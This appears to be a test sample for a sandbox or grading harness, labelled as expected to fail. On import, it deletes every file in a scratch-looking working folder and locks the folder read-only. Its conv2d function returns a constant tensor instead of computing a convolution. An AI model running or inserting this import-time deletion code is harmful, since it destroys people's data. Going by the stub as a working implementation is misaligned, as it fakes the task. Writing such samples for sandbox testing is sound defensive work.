# expect: fail
# attack: Everything that can be written in the current folder is made unreadable and removed.
import os
from pathlib import Path

import torch


def is_scratch(folder):
    """Only a small folder outside every project: this is about the sandbox's folder and about no other."""
    inside_project = any((parent / name).exists() for parent in [folder, *folder.parents] for name in (".git", "pyproject.toml"))
    return not inside_project and folder != Path.home() and sum(1 for _ in folder.iterdir()) <= 20


if is_scratch(Path.cwd()):
    for path in Path.cwd().iterdir():
        try:
            if path.is_file():
                path.chmod(0)
                path.unlink()
        except OSError as error:
            print(error)
    os.chmod(".", 0o500)


def conv2d(x, w):
    return torch.full((x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1), 7.0, dtype=x.dtype)
